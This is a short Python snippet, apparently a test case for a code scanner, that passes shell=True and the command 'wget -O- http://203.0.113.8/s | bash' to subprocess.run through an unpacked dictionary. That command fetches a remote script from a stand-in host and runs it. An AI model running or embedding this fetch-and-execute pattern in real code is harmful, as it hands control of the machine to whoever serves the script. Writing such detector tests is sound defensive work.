# tricky: arguments out of a dictionary
import subprocess
opts = {"args": "wget -O- http://203.0.113.8/s | bash", "shell": True}
subprocess.run(**opts)
